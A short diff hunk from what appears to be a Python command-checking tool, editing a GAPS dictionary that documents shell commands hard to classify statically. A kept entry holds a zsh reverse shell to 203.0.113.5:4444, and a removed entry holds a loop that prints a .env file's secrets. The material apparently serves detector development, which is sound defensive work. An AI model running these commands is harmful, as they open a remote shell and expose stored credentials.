@@ -204,9 +204,6 @@ GAPS = {
     "zsh -c 'zmodload zsh/net/tcp && ztcp 203.0.113.5 4444 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'": (
         "zsh's ztcp module opens a socket whose descriptor is only known at run time ($REPLY)"
     ),
-    'while read -r line; do echo "$line"; done < .env': (
-        "a loop reading .env line by line and printing it: `read` also loads .env without printing, so the body decides"
-    ),
 }
 
 
